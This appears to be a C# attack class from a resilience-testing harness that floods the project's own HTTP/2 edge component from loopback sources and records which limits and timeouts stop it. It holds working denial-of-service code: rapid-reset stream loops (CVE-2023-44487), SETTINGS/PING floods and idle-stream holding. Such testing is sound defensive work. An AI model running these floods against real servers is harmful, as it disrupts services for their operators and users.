using System.Diagnostics;
using SieveQ.Attacks.Attacks.Http2;

namespace SieveQ.Attacks.Attacks;

/// <summary>
/// h2-flood: HTTP/2-level floods at the first pre-SQ, each connection from its own loopback source.
/// <see cref="RapidResetConnections"/> connections open an Exchange stream and reset it in the same write, over and
/// over (the "rapid reset" of CVE-2023-44487); <see cref="ControlConnections"/> send SETTINGS and PING frames, each of
/// which the server must answer; <see cref="IdleConnections"/> connections hold 31 Exchange streams each that never
/// send a byte. The rapid-reset and control connections share the attack rate (frames per second), paced in 1 ms
/// slots; a connection the pre-SQ closes is opened again after <see cref="ReopenPause"/>. The attack's actions are
/// the frames written.
/// </summary>
internal sealed class H2Flood(int rate) : Attack
{
    public const int RapidResetConnections = 4;
    public const int ControlConnections = 2;
    public const int IdleConnections = 4;
    public const int IdleStreams = 31;
    private static readonly TimeSpan ReopenPause = TimeSpan.FromMilliseconds(100);

    private readonly OutcomeTally _tally = new();
    private readonly OpenStreamsProbe _probe = new();
    private long _frames;

    public override string Description =>
        $"{RapidResetConnections} connections opening and resetting Exchange streams, {ControlConnections} flooding SETTINGS and PING "
        + $"({rate} frames/s together), {IdleConnections} holding {IdleStreams} silent streams each, at the first pre-SQ";

    public override string Countermeasure =>
        "Kestrel's HTTP/2 handling (a reset stream's handler ends at once, so resets never pile up against the 32 streams per connection; "
        + "a client holding reset streams past that limit would get GOAWAY ENHANCE_YOUR_CALM), the per-source connection limit (32) and the Exchange "
        + "stream's unbound timeout (30 s) for the silent streams";

    public override string? Watched => EdgeTarget.FirstPreSqName;

    public override long Applied => Interlocked.Read(ref _frames);

    public override async Task RunAsync(AttackTarget target, CancellationToken stop)
    {
        var edge = EdgeTarget.FirstPreSq(target.Config);
        var probing = Task.Run(() => _probe.RunAsync(target.Config, edge.Name, stop), CancellationToken.None);
        var paced = RapidResetConnections + ControlConnections;
        var share = Math.Max(1, rate / paced);
        var tasks = new List<Task>();
        var source = 0;
        for (var i = 0; i < RapidResetConnections; i++)
        {
            var s = source++;
            tasks.Add(Task.Run(() => KeepAsync(edge, s, "rapid-reset", c => FloodAsync(c, share, RapidReset, stop), stop), CancellationToken.None));
        }
        for (var i = 0; i < ControlConnections; i++)
        {
            var s = source++;
            tasks.Add(Task.Run(() => KeepAsync(edge, s, "settings/ping", c => FloodAsync(c, share, Control, stop), stop), CancellationToken.None));
        }
        for (var i = 0; i < IdleConnections; i++)
        {
            var s = source++;
            tasks.Add(Task.Run(() => KeepAsync(edge, s, "idle-streams", c => HoldIdleAsync(c, stop), stop), CancellationToken.None));
        }
        await Task.WhenAll(tasks).ConfigureAwait(false);
        await probing.ConfigureAwait(false);
    }

    private static async Task<int> RapidReset(RawHttp2Connection c, long n, CancellationToken ct)
    {
        var id = await c.OpenStreamAsync(EdgeTarget.ExchangePath, endStream: false, track: false, ct).ConfigureAwait(false);
        await c.WriteAsync(Http2Wire.RstStream(id, Http2Wire.Cancel), ct).ConfigureAwait(false);
        return 2;
    }

    private static async Task<int> Control(RawHttp2Connection c, long n, CancellationToken ct)
    {
        await c.WriteAsync(n % 2 == 0 ? Http2Wire.Frame(FrameType.Settings, 0, 0, []) : Http2Wire.Ping(n), ct).ConfigureAwait(false);
        return 1;
    }

    /// <summary>Opens connections from one source until the window ends, running <paramref name="attack"/> on each until the pre-SQ closes it.</summary>
    private async Task KeepAsync(EdgeTarget edge, int source, string mode, Func<RawHttp2Connection, Task> attack, CancellationToken stop)
    {
        while (!stop.IsCancellationRequested)
        {
            try
            {
                var connection = await edge.OpenAsync(source, stop).ConfigureAwait(false);
                _tally.Add($"attacker {mode} connections opened");
                await using (connection.ConfigureAwait(false))
                {
                    try
                    {
                        await attack(connection).ConfigureAwait(false);
                    }
                    catch (Exception e) when (e is IOException or ObjectDisposedException or InvalidOperationException)
                    {
                        // the pre-SQ closed it while we wrote
                    }
                    if (!stop.IsCancellationRequested)
                    {
                        await Task.WhenAny(connection.Closed, Task.Delay(TimeSpan.FromSeconds(1), CancellationToken.None)).ConfigureAwait(false);
                        _tally.Add($"attacker {mode} connections closed by the pre-SQ: {connection.CloseReason ?? "still open after 1 s"}");
                    }
                    _tally.Add("attacker RST_STREAM received", connection.ResetsReceived);
                }
            }
            catch (OperationCanceledException) when (stop.IsCancellationRequested)
            {
                return;
            }
            catch (Exception e) when (e is IOException or System.Net.Sockets.SocketException or System.Security.Authentication.AuthenticationException)
            {
                _tally.Add($"attacker {mode} connections refused or failed");
            }
            try
            {
                await Task.Delay(ReopenPause, stop).ConfigureAwait(false);
            }
            catch (OperationCanceledException)
            {
                return;
            }
        }
    }

    private async Task FloodAsync(RawHttp2Connection c, int perSecond, Func<RawHttp2Connection, long, CancellationToken, Task<int>> step, CancellationToken stop)
    {
        var clock = Stopwatch.StartNew();
        long sent = 0;
        while (!stop.IsCancellationRequested && !c.Closed.IsCompleted)
        {
            var due = (long)(clock.Elapsed.TotalSeconds * perSecond) + 1;
            if (sent >= due)
            {
                await Task.Delay(1, stop).ConfigureAwait(false);
                continue;
            }
            sent = Math.Max(sent, due - perSecond / 10);
            while (sent < due && !c.Closed.IsCompleted)
            {
                var frames = await step(c, sent, stop).ConfigureAwait(false);
                sent += frames;
                Interlocked.Add(ref _frames, frames);
            }
        }
    }

    private async Task HoldIdleAsync(RawHttp2Connection c, CancellationToken stop)
    {
        var streams = new List<Task<StreamOutcome?>>();
        while (!stop.IsCancellationRequested && !c.Closed.IsCompleted)
        {
            foreach (var done in streams.Where(t => t.IsCompleted).ToList())
            {
                _tally.Add($"attacker idle streams ended by the pre-SQ: {(await done.ConfigureAwait(false))?.Kind ?? "no answer"}");
                streams.Remove(done);
            }
            while (streams.Count < IdleStreams && !c.Closed.IsCompleted)
            {
                var id = await c.OpenStreamAsync(EdgeTarget.ExchangePath, endStream: false, track: true, stop).ConfigureAwait(false);
                streams.Add(c.OutcomeAsync(id, Timeout.InfiniteTimeSpan, CancellationToken.None));
                Interlocked.Increment(ref _frames);
            }
            await Task.WhenAny(Task.WhenAny(streams), c.Closed, Task.Delay(Timeout.Infinite, stop)).ConfigureAwait(false);
        }
    }

    public override IReadOnlySet<string> Levels { get; } = new HashSet<string>(StringComparer.Ordinal) { "pre-sq open_streams during the attack (peak)", "pre-sq open_streams after the attack" };

    public override async Task<IReadOnlyDictionary<string, long>> CountermeasureAsync(AttackTarget target, CancellationToken ct)
    {
        var edge = EdgeTarget.FirstPreSq(target.Config);
        var figures = new Dictionary<string, long>(_tally.All, StringComparer.Ordinal)
        {
            ["pre-sq open_streams during the attack (peak)"] = _probe.Peak,
        };
        foreach (var counter in new[] { "streams_unbound_timeout", "connections_refused_per_source", "open_streams", "frames_received" })
        {
            figures[counter == "open_streams" ? "pre-sq open_streams after the attack" : $"pre-sq {counter}"] = await ComponentCounterAsync(target.Config, edge.Name, counter, ct).ConfigureAwait(false);
        }
        return figures;
    }
}
